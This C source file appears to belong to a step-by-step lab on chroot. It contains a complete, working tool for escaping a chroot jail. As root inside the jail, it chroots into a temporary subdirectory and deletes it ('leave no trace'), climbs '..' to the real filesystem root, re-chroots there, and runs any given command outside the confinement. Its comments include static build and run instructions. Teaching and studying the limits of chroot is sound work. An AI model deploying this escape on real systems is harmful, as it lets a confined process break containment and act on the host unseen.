/*
 * escape.c: leave a chroot jail, as root in it, then run CMD outside.
 *
 * chroot(2) changes one thing, the directory where a path that starts
 * with / begins.  It leaves the working directory alone, and ".." stops
 * only at the root directory itself.  So a process that may call chroot
 * moves its root into a subdirectory while its working directory stays
 * above it, walks up with ".." past where the old root was, and makes
 * the top of the real tree its root again.
 *
 * Build it static (the jail has no compiler and maybe not its libraries),
 * into the jail of step 6:
 *     cc -static -o jail/escape step06-chroot/escape.c
 * and run it in there: /escape CMD [ARG...]
 * See chroot(2) (NOTES), pivot_root(2).
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	return 125;
}

int main(int argc, char *argv[])
{
	struct stat here, up;

	if (argc < 2) {
		fprintf(stderr, "usage: escape CMD [ARG...]\n");
		return 125;
	}
	/* A subdirectory to be the new root; the working directory stays. */
	if (mkdir("escape.d", 0755) == -1 && errno != EEXIST)
		return fail("mkdir escape.d");
	if (chroot("escape.d") == -1)
		return fail("chroot escape.d");
	/* The working directory still names it: remove it, leave no trace. */
	if (rmdir("escape.d") == -1)
		return fail("rmdir escape.d");
	/* Up until ".." is "." itself: the top of the real tree. */
	for (;;) {
		if (stat(".", &here) == -1 || stat("..", &up) == -1)
			return fail("stat");
		if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
			break;
		if (chdir("..") == -1)
			return fail("chdir ..");
	}
	if (chroot(".") == -1)
		return fail("chroot .");
	execvp(argv[1], argv + 1);
	fail(argv[1]);
	return errno == ENOENT ? 127 : 126;
}
